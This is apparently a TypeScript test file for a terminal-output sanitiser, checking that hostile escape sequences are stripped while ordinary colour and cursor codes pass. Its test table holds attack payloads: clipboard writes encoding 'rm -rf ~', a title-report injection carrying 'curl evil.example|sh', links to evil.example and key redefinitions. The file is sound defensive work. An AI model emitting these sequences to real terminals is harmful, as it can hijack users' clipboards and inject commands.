// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { SafeOutput } from './safe-output.ts';

/** What a viewer's terminal may get: told here by one expression, apart from the code that is tested. */
const HARMLESS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this is about
  /^(?:[^\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\u0008-\u000f]|\x1b(?:[78DEM]|[()][AB0]|\[[\d;:]*m|\[[su]|\[[012]?J|\[(?:\d{0,3}|1000)b|\[\d{0,4}(?:;\d{0,4})*[A-HKLMPSTXadefr`@]|\[\??(?:4|6|7|25|47|1047|1049)[hl]))*$/u;

const ATTACKS: Readonly<Record<string, string>> = {
  'sets the clipboard (OSC 52)': '\x1b]52;c;cm0gLXJmIH4K\x07',
  'sets the title': '\x1b]0;root@prod\x1b\\',
  'reports the title as input': '\x1b]2;curl evil.example|sh\x07\x1b[21t',
  'makes a link': '\x1b]8;;http://evil.example\x1b\\docs\x1b]8;;\x1b\\',
  'changes colours of the terminal': '\x1b]4;1;#000000\x07',
  'asks for device attributes': '\x1b[c\x1b[>c\x1b[=c\x1bZ',
  'asks for the cursor': '\x1b[6n\x1b[?6n',
  'asks for a mode': '\x1b[?2004$p',
  'asks for a setting (DECRQSS)': '\x1bP$qm\x1b\\',
  'asks for capabilities': '\x1bP+q544e\x1b\\',
  'defines keys (DECUDK)': '\x1bP1;1|17/63757221\x1b\\',
  'asks for the answerback': '\x05',
  prints: '\x1b[5i\x1b[?5i',
  'empties the scrollback': '\x1b[3J',
  'resets the terminal': '\x1bc\x1b[!p',
  'turns mouse reports on': '\x1b[?1000h\x1b[?1006h',
  'turns paste marks on': '\x1b[?2004h',
  'moves and resizes the window': '\x1b[3;0;0t\x1b[8;9;9t',
  'changes what keys send': '\x1b[?1h\x1b=\x1b>',
  'draws an image (kitty)': '\x1b_Ga=T;AAAA\x1b\\',
  'does it with C1 controls': '\u009d52;c;cm0K\u009c\u009b6n\u0090+q544e\u009c',
  'begins a string that never ends': '\x1b]52;c;',
  'turns text round': 'access \u202egranted\u202c',
  'repeats without end': '\x1b[999999999b',
  'says it rings': '\x07\x07\x07',
};

function safe(...pieces: readonly string[]): string {
  const output = new SafeOutput();
  return pieces.map((piece) => output.push(Buffer.from(piece))).join('');
}

describe('SafeOutput', () => {
  for (const [what, attack] of Object.entries(ATTACKS)) {
    it(`lets nothing through that ${what}`, () => {
      assert.doesNotMatch(attack, HARMLESS, 'the attack must be told from what is harmless');
      assert.match(safe(`before ${attack} after`), HARMLESS);
    });
  }

  it('shows what comes behind a string that nothing ends but its line', () => {
    for (const opener of ['\x1b]', '\x1bP', '\x1b_', '\u009d']) {
      assert.equal(safe(`${opener}52;c;cm0K`, '\nafter\r\n', 'last'), '\nafter\r\nlast');
    }
  });

  it('lets through what programs draw with', () => {
    const drawn = [
      '\x1b[1;38;5;208mbold\x1b[0m\r\n\ttab\b\b',
      '\x1b[?1049h\x1b[22;1H\x1b[2J\x1b[?25l\x1b(0lqqk\x1b(B\x1b[K',
      '\x1b7\x1b[5;10r\x1b[3L\x1b[2M\x1bM\x1b[4P\x1b[2@\x1b[3X\x1b8',
      'ж – 表 – 😀',
    ];
    for (const text of drawn) assert.equal(safe(text), text);
  });

  it('gives harmless output whatever comes in, the same for any split, and its own output again', () => {
    const piece = fc.oneof(
      fc.constantFrom(...Object.values(ATTACKS)),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.stringMatching(/^[[\]PX^_()#]?[\d;:?>=]{0,8}[ -/]{0,2}[@-~]?$/).map((rest) => `\x1b${rest}`),
    );
    fc.assert(
      fc.property(fc.array(piece), fc.array(fc.nat(400)), (pieces, cuts) => {
        const bytes = Buffer.from(pieces.join(''));
        const whole = new SafeOutput().push(bytes);
        assert.match(whole, HARMLESS);
        const output = new SafeOutput();
        const borders = [0, ...cuts.map((cut) => Math.min(cut, bytes.length)).sort((a, b) => a - b), bytes.length];
        const split = borders.slice(1).map((border, i) => output.push(bytes.subarray(borders[i], border)));
        assert.equal(split.join(''), whole);
        assert.equal(safe(whole), whole);
      }),
      { numRuns: 500 },
    );
  });

  it('brings the terminal back to how it was', () => {
    const output = new SafeOutput();
    assert.equal(output.reset(), '\x1b[0m');
    output.push(Buffer.from('\x1b[?1049h\x1b[?25l\x1b[?7l\x1b[4h\x1b(0\x1b[2;5r'));
    const undone = ['\x1b[?1049l', '\x1b[?25h', '\x1b[?7h', '\x1b[4l', '\x1b(B', '\x1b7\x1b[r\x1b8', '\x1b[0m'];
    assert.equal(output.reset(), undone.join(''));
    output.push(Buffer.from('\x1b[?25l\x1b[?25h\x1b[?1049h\x1b[?1049l'));
    assert.equal(output.reset(), '\x1b[0m');
  });
});
